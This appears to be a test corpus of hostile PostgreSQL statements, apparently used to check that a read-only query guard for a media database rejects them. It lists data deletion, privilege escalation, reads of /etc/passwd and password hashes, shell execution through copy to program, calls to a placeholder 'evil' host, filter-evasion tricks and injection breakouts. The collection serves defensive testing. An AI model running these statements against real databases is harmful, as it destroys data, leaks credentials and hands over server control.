--- writes
insert into media_files (path) values ('x')

insert into v_files (title) values ('x')

insert into ask.v_decisions (kind) values ('note') returning *

update media_files set title = 'x'

update v_files set protected = false

update ask.v_pending set state = 'purged'

delete from media_files

delete from v_groups

delete from ask.v_files where true returning file_id

truncate media_files

truncate table pending_deletions cascade

merge into media_files m using (select 1) s on true when matched then delete

merge into v_files f using v_groups g on f.file_id = g.keeper_id when matched then update set title = 'x'

with gone as (delete from media_files returning *) select * from gone

with gone as (delete from v_files returning file_id) select count(*) from gone

with made as (insert into users (username, password_hash) values ('root', 'x') returning *) select * from made

with changed as (update pending_deletions set state = 'approved' returning id) select * from changed

with a as (select 1), b as (update media_files set protected = false returning id) select * from a, b

with a as (with b as (delete from media_files returning 1) select * from b) select * from a

select * from (with b as (delete from v_files returning 1) select * from b) x

insert into media_files select * from media_files

update media_files set title = (select title from v_files limit 1)

delete from pending_deletions using v_files

insert into v_files default values

update only media_files set state = 'purged'

--- makes things
select * into stolen from v_files

select title into temp stolen from v_files

select title into unlogged stolen from v_files

create table stolen as select * from v_files

create temp table stolen (a int)

create temporary table stolen as select 1

create unlogged table stolen (a int)

create view stolen as select * from v_files

create or replace view ask.v_files as select 1

create temp view stolen as select 1

create materialized view stolen as select * from v_files

create function f() returns int language sql as 'select 1'

create or replace function ask.f() returns void language plpgsql as $$ begin delete from media_files; end $$

create procedure p() language sql as 'delete from media_files'

create trigger t after insert on media_files execute function f()

create rule r as on select to v_files do instead delete from media_files

create extension dblink

create extension file_fdw

create schema mine

create schema authorization mediavault_reader

create sequence s

create type t as (a int)

create domain d as text

create index on media_files (title)

create role mallory superuser

create user mallory password 'x'

create database mine

create tablespace t location '/tmp'

create publication p for all tables

create subscription s connection 'host=evil' publication p

create foreign data wrapper w

create server s foreign data wrapper w

create event trigger t on ddl_command_start execute function f()

create cast (text as int) without function

create operator === (leftarg = int, rightarg = int, function = int4eq)

create policy p on media_files

create statistics s on title, year from media_files

create aggregate a (int) (sfunc = int4pl, stype = int)

create collation c from "C"

--- changes and drops
drop table media_files

drop view v_files

drop view ask.v_files cascade

drop schema ask cascade

drop database mediavault

drop role mediavault_reader

drop owned by mediavault_reader cascade; drop table users

alter table media_files owner to mediavault_reader

alter table media_files disable trigger all

alter view v_files owner to mediavault_reader

alter view ask.v_files set schema public

alter role mediavault_reader superuser

alter role mediavault_reader createdb

alter role mediavault_reader connection limit -1

alter user mediavault_reader bypassrls

alter database mediavault owner to mediavault_reader

alter system set fsync = off

alter default privileges grant all on tables to public

alter role mediavault_reader in database mediavault set role = 'mediavault'

grant mediavault to mediavault_reader

grant pg_read_server_files to mediavault_reader

grant pg_execute_server_program to mediavault_reader

grant all on all tables in schema public to public

grant select on users to mediavault_reader

revoke all on schema ask from mediavault_reader granted by mediavault

reassign owned by mediavault to mediavault_reader

comment on table media_files is 'x'

security label on table media_files is 'x'

refresh materialized view stolen

reindex table media_files

cluster media_files

lock table media_files in access exclusive mode

lock table v_files

import foreign schema public from server s into ask

--- programs and files
copy (select 1) to program 'id'

copy v_files to '/tmp/stolen'

copy (select * from v_files) to '/tmp/stolen.csv'

copy media_files from '/etc/passwd'

copy media_files from program 'curl evil'

copy users to stdout

do $$ begin perform pg_sleep(60); end $$

do $$ begin execute 'delete from media_files'; end $$

do language plpgsql $$ begin perform pg_read_file('/etc/passwd'); end $$

call pg_catalog.pg_sleep(1)

load '/tmp/evil.so'

load 'plpgsql.so'; select pg_read_file('x')

select pg_read_file('/etc/passwd')

select pg_read_binary_file('postgresql.conf')

select pg_catalog.pg_read_file('PG_VERSION')

select * from pg_ls_dir('/')

select pg_ls_dir('.')

select * from pg_ls_logdir()

select * from pg_ls_waldir()

select * from pg_stat_file('PG_VERSION')

select pg_file_write('/tmp/x', 'x', false)

select lo_import('/etc/passwd')

select lo_export(1, '/tmp/x')

select lo_create(0)

select lo_creat(-1)

select lo_from_bytea(0, 'x'::bytea)

select lo_put(1, 0, 'x'::bytea)

select lo_get(1)

select lo_unlink(1)

select lowrite(0, 'x'::bytea)

select loread(0, 10)

select * from pg_largeobject

select "pg_read_file"('/etc/passwd')

select (pg_read_file('/etc/passwd'))::text from v_files

select title from v_files where title = pg_read_file('/etc/passwd')

select title from v_files order by pg_sleep(10)

select count(*) filter (where pg_sleep(10) is null) from v_files

select (select pg_read_file('/etc/passwd'))

values (pg_read_file('/etc/passwd'))

with x as (select pg_read_file('/etc/passwd')) select * from x

select * from v_files, lateral pg_ls_dir('/') d

select case when true then pg_read_file('/etc/passwd') end

select array[pg_read_file('/etc/passwd')]

select row(pg_read_file('/etc/passwd'))

select pg_read_file from pg_read_file('/etc/passwd')

select U&"\0070g_read_file"('/etc/passwd')

select U&"!0070g_sleep" uescape '!' (10)

select/**/pg_sleep/**/(/**/10/**/)

select pg_sleep -- quiet
(10)

select "pg_catalog"."pg_sleep"(10)

--- other people's things
select * from users

select username, password_hash from public.users

select * from public.sessions

select password_encrypted from nas_config

select * from chat_messages

select * from chat_sessions

select * from chat_consents

select * from media_files

select * from public.media_files

select path_raw from public.media_files limit 1

table users

select * from only public.users

select u from users u

select (users).* from users

select * from public.schema_migrations

select count(*) from public.archive_operations

select title from v_files union all select password_hash from users

select title from v_files where exists (select from users where password_hash like 'a%')

select (select string_agg(password_hash, ',') from public.users)

with x as (select * from users) select * from x

with users as (select * from public.users) select * from users

select * from (with pg_shadow as (select 1) select * from pg_shadow) x, pg_shadow

select * from pg_shadow

select rolname, rolpassword from pg_authid

select * from pg_roles

select * from pg_user

select usename from pg_catalog.pg_user

select * from pg_user_mapping

select * from pg_db_role_setting

select * from pg_settings

select * from pg_file_settings

select * from pg_hba_file_rules

select * from pg_stat_activity

select * from pg_stat_ssl

select query from pg_catalog.pg_stat_activity

select * from pg_stats

select * from pg_statistic

select * from pg_class

select * from pg_proc

select prosrc from pg_proc

select relname from pg_catalog.pg_class

select * from information_schema.tables

select * from information_schema.role_table_grants

select table_name from information_schema.columns

select * from pg_locks

select * from pg_prepared_statements

select * from pg_cursors

select * from pg_subscription

select * from pg_database

select * from pg_tablespace

show data_directory; select * from pg_settings

select current_setting('data_directory')

select current_setting('ssl_key_file', true)

select current_setting('mediavault.secret', true)

select current_query()

select pg_get_viewdef('ask.v_files'::regclass)

select 'users'::regclass

select 'public.users'::regclass::oid

select has_table_privilege('users', 'select')

select pg_get_userbyid(10)

select inet_server_addr()

select inet_client_addr()

select pg_postmaster_start_time()

select pg_conf_load_time()

select pg_backend_pid()

select * from pg_stat_get_activity(null)

select pg_relation_filepath('ask.v_files'::text::regclass)

select query_to_xml('select * from users', true, true, '')

select table_to_xml('users', true, true, '')

select database_to_xml(true, true, '')

select schema_to_xml('public', true, true, '')

select cursor_to_xml('c', 1, true, true, '')

select * from ts_stat('select to_tsvector(password_hash) from users')

select pg_describe_object(1259, 1259, 0)

select obj_description(1259, 'pg_class')

select col_description(1259, 1)

select pg_column_size(u.*) from public.users u

select * from mediavault.public.users

select * from other.public.users

--- waits, locks, signals, servers
select pg_sleep(10)

select pg_sleep_for('10 minutes')

select pg_sleep_until(now() + interval '1 hour')

select pg_advisory_lock(1)

select pg_advisory_xact_lock(7120004502)

select pg_try_advisory_lock(1)

select pg_advisory_lock_shared(1)

select pg_advisory_unlock_all()

select pg_terminate_backend(1)

select pg_cancel_backend(1)

select pg_terminate_backend(pid) from pg_stat_activity

select pg_reload_conf()

select pg_rotate_logfile()

select pg_switch_wal()

select pg_create_restore_point('x')

select pg_promote()

select pg_export_snapshot()

select pg_notify('mediavault', 'all:0')

select pg_logical_emit_message(true, 'x', 'y')

select pg_create_logical_replication_slot('s', 'pgoutput')

select pg_stat_reset()

select pg_log_backend_memory_contexts(1)

select set_config('statement_timeout', '0', false)

select set_config('role', 'mediavault', false)

select set_config('session_authorization', 'mediavault', false)

select set_config('default_transaction_read_only', 'off', false)

select nextval('users_id_seq')

select nextval('public.media_files_id_seq')

select setval('media_files_id_seq', 1)

select lastval()

select setseed(0.5)

select txid_current()

select pg_current_xact_id()

select dblink('host=evil', 'select 1')

select * from dblink('dbname=mediavault', 'delete from media_files') as t (a text)

select dblink_connect('host=evil')

select xpath('/a', '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'::xml)

select title from v_files for update

select title from v_files for share

select title from v_files for no key update skip locked

select * from (select file_id from v_files for update) x

--- several at once
select 1; drop table media_files

select 1; select pg_sleep(10)

select 1;; delete from media_files

select 1) as answer; delete from media_files; --

select 1) as answer, (select * from users) as u --

select 1) as answer) as l; copy users to program 'id' --

select 1 as a) as answer, lateral (select pg_sleep(10)) as b; --

begin; delete from media_files; commit

select 1; set role mediavault; delete from media_files

reset role; delete from media_files

rollback; delete from media_files

rollback; begin read write; drop table users; commit

set session authorization mediavault; delete from media_files

prepare p as delete from media_files; execute p

explain analyze delete from media_files

explain (analyze) select pg_sleep(10)

declare c cursor with hold for select * from users

--- makes much of little
select repeat('x', 900000000)

select lpad('x', 900000000)

select rpad('x', 900000000, 'ab')

select format('%900000000s', 'x')

select array_fill(1, array[20000000])

select array_fill(0, array[10000, 10000])
